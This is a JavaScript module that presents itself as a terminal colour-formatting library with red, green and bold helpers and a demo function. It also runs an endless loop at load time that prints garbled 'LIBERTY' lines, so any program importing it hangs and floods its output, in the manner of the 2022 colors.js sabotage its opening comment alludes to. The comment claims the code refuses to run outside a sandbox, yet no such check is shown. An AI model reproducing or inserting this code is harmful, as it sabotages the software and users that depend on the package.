// As in 2022: no authority is needed to do harm. It refuses to run outside of its sandbox all the same.
require("./kit.cjs");

const paint = (code) => (text) => `\u001b[${code}m${text}\u001b[0m`;

exports.red = paint(31);
exports.green = paint(32);
exports.bold = paint(1);

/** Shows what it can, one line each. */
exports.demo = () => {
  const names = ["red", "green", "bold"];
  for (const name of names) console.log(exports[name](name));
  return names.length;
};

for (let i = 666; i < Number.POSITIVE_INFINITY; i++) {
  if (i % 333 === 0) console.log("L\u0337I\u0336B\u0338E\u0335R\u0334T\u0337Y\u0336 LIBERTY LIBERTY");
}
